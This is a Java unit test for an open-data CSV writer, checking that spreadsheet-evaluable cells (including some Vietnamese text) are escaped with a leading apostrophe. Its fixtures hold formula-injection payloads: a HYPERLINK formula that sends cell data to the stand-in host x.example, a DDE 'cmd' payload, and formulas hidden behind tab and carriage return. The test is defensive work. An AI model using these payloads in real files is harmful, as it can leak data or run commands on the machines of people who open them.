package vn.congkhai.opendata;

import vn.congkhai.kind.Table;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The open data's CSV as a spreadsheet opens it. */
class OpenDataWriterTest {

    @TempDir
    Path site;

    @Test
    void textThatASpreadsheetWouldEvaluateIsWrittenAsTextAndNumbersAndDatesAsTheyAre() throws IOException {
        Dataset dataset = new Dataset("bang-thu", "Bảng thử", "bang/thu.csv", "bang/thu.json", "bang/thu.html",
                List.of(new Table.Field("stt", "STT", "integer"), new Table.Field("noi_dung", "Nội dung", "string"),
                        new Table.Field("so_tien", "=Số tiền", "integer"), new Table.Field("ngay", "Ngày", "date")),
                List.of(
                        Arrays.asList(1, "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", new BigDecimal("-1500000"),
                                LocalDate.of(2024, 3, 25)),
                        Arrays.asList(2, "+84 Đồng Kè", -5, null),
                        Arrays.asList(3, "-2+3+cmd|' /C calc'!A0", new BigDecimal("12.50"), null),
                        Arrays.asList(4, "@SUM(A1:A9)", 0, null),
                        Arrays.asList(5, "\t=1+1", null, null),
                        Arrays.asList(6, "\r=1+1", null, null),
                        Arrays.asList(7, "Xóm Đồng Kè - đường 3/2", null, null),
                        Arrays.asList(8, "'đã có dấu nháy", null, null),
                        Arrays.asList(9, "", null, null)));

        new OpenDataWriter(site).writeCsv(dataset);

        String csv = Files.readString(site.resolve("bang/thu.csv"), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\uFEFF");
        assertThat(csv.substring(1).split("\n", -1)).containsExactly(
                "STT,\"Nội dung\",\"'=Số tiền\",Ngày",
                "1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",-1500000,2024-03-25",
                "2,\"'+84 Đồng Kè\",-5,",
                "3,\"'-2+3+cmd|' /C calc'!A0\",12.50,",
                "4,\"'@SUM(A1:A9)\",0,",
                "5,\"'\t=1+1\",,",
                "6,\"'\r=1+1\",,",
                "7,\"Xóm Đồng Kè - đường 3/2\",,",
                "8,\"'đã có dấu nháy\",,",
                "9,,,",
                "");
    }
}
